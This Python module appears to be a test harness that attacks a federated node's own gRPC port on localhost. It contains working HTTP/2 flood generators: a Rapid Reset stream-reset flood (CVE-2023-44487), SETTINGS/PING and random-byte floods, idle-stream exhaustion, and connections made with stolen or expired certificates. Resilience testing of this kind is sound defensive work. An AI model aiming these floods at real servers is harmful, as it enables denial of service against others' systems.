"""Strangers that knock at a node's port: what they hold, and what they do with it."""

from __future__ import annotations

import contextlib
import itertools
import os
import socket
import ssl
import tempfile
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import NamedTuple

import grpc

from pppml_fast.site.authority import TrialAuthority
from pppml_fast.site.keys import SiteKeys
from pppml_fast.transport.grpc_settings import METHOD, channel_credentials, channel_options
from pppml_fast.transport.link import Link
from pppml_fast.transport.tls_names import tls_name

__all__ = ["Credentials", "Door", "control_flood", "noise", "opening", "reset_flood"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Flood = Callable[[], Iterator[bytes]]
_ANSWER_S = _PATIENCE_S = 60.0


class Credentials(NamedTuple):
    """A TLS key and its certificate, PEM."""

    key: bytes
    certificate: bytes

    @classmethod
    def of(cls, keys: SiteKeys) -> Credentials:
        """Those of a member, as whoever stole them has them."""
        return cls(keys.tls_key, keys.certificate)

    @classmethod
    def issued(cls, authority: TrialAuthority, keys: SiteKeys, ended_days_ago: int = 0) -> Credentials:
        """A certificate of this authority, of another day where it has ended."""
        now = datetime.now(timezone.utc) - timedelta(days=ended_days_ago + 1)
        days = 1 if ended_days_ago else 30
        return cls(keys.tls_key, authority.issue(keys.request, days, now=now))


class Door:
    """The port of a node, whose Ed25519 public key is ``public``, seen from outside; ``folder`` is for PEM files."""

    def __init__(self, name: str, port: int, public: bytes, authorities: bytes, folder: Path) -> None:
        self.name, self.port, self._public, self._authorities, self._folder = name, port, public, authorities, folder

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=_ANSWER_S)

    def handshake(self, credentials: Credentials | None) -> ssl.SSLSocket:
        """TLS as far as the client sees it, which in TLS 1.3 is before the node has looked at the certificate."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(cadata=self._authorities.decode())
        context.set_alpn_protocols(["h2"])
        if credentials is not None:
            with tempfile.NamedTemporaryFile(dir=self._folder) as pem:  # it is read from a file or not at all
                pem.write(credentials.certificate + credentials.key)
                pem.flush()
                context.load_cert_chain(pem.name)
        return context.wrap_socket(self.connect(), server_hostname=tls_name(self._public))

    def answered(self, credentials: Credentials | None) -> bytes:
        """What the node says on a fresh connection until it closes it: HTTP/2 begins with its settings."""
        try:
            with self.handshake(credentials) as tls:
                tls.sendall(PREFACE + b"\0\0\0\4\0\0\0\0\0")
                return tls.recv(1 << 14)
        except OSError:
            return b""

    def flood(self, data: Flood, seconds: float, credentials: Credentials | None = None) -> int:
        """Send as fast as the node reads, on one connection after another, with TLS where there are credentials.

        For so many seconds, and on until anything was sent at all. Bytes sent.
        """
        until, sent = time.monotonic() + seconds, 0
        while time.monotonic() < until or (not sent and time.monotonic() < until + _PATIENCE_S):
            with contextlib.suppress(OSError), self._reach(credentials) as connection:
                connection.settimeout(0.5)
                for piece in data():
                    connection.sendall(piece)
                    sent += len(piece)
                    if time.monotonic() >= until:
                        break
        return sent

    def _reach(self, credentials: Credentials | None) -> socket.socket:
        return self.connect() if credentials is None else self.handshake(credentials)

    def call(self, credentials: Credentials, frames: Iterable[bytes]) -> grpc.StatusCode:
        """Open a link's stream, send frames, read to the end. How it ended."""
        target = f"127.0.0.1:{self.port}"
        with grpc.secure_channel(target, self._channel(credentials), options=self._options) as channel:
            call = channel.stream_stream(METHOD)(iter(frames), timeout=_ANSWER_S)
            try:
                for _ in call:
                    pass
            except grpc.RpcError as error:
                return error.code()
        return grpc.StatusCode.OK

    @contextlib.contextmanager
    def silent_calls(self, credentials: Credentials, count: int) -> Iterator[list[grpc.Call]]:
        """Streams on which nothing is ever sent, each over a connection of its own."""
        held = threading.Event()

        def nothing() -> Iterator[bytes]:
            held.wait()
            yield from ()

        with contextlib.ExitStack() as stack:
            stack.callback(held.set)
            calls = []
            for _ in range(count):
                target = f"127.0.0.1:{self.port}"
                channel = stack.enter_context(
                    grpc.secure_channel(target, self._channel(credentials), options=self._options)
                )
                calls.append(channel.stream_stream(METHOD)(nothing()))
            yield calls

    def _channel(self, credentials: Credentials) -> grpc.ChannelCredentials:
        return channel_credentials(credentials.key, credentials.certificate, self._authorities)

    @property
    def _options(self) -> list[tuple[str, int | str]]:
        return channel_options(tls_name(self._public), 10.0)


def opening(name: str, peer: str) -> bytes:
    """The first frame of a link that ``name`` dials to ``peer``, well formed."""
    link = Link(name, peer, os.urandom(16), accepts=False)
    frame = link.next_frame(link.connect())
    assert frame is not None
    return frame


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def noise() -> Iterator[bytes]:
    """Bytes that mean nothing."""
    return itertools.repeat(os.urandom(1 << 16))


def control_flood() -> Iterator[bytes]:
    """HTTP/2 settings and pings; every one asks for an answer, and none is read."""
    yield PREFACE + _frame(4, 0, 0)
    yield from itertools.repeat((_frame(4, 0, 0) + _frame(6, 0, 0, bytes(8))) * 500)


def reset_flood() -> Iterator[bytes]:
    """HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487)."""
    headers = b"\x83\x87\x04" + _text(METHOD) + b"\x01" + _text("x") + b"\x00" + _text("te") + _text("trailers")
    headers += b"\x00" + _text("content-type") + _text("application/grpc")
    yield PREFACE + _frame(4, 0, 0)
    for first in range(1, 1 << 31, 400):
        yield b"".join(_frame(1, 4, n, headers) + _frame(3, 0, n, b"\0\0\0\x08") for n in range(first, first + 400, 2))


def _text(text: str) -> bytes:
    """A literal string of HPACK, not Huffman coded (RFC 7541, section 5.2)."""
    return bytes((len(text),)) + text.encode()
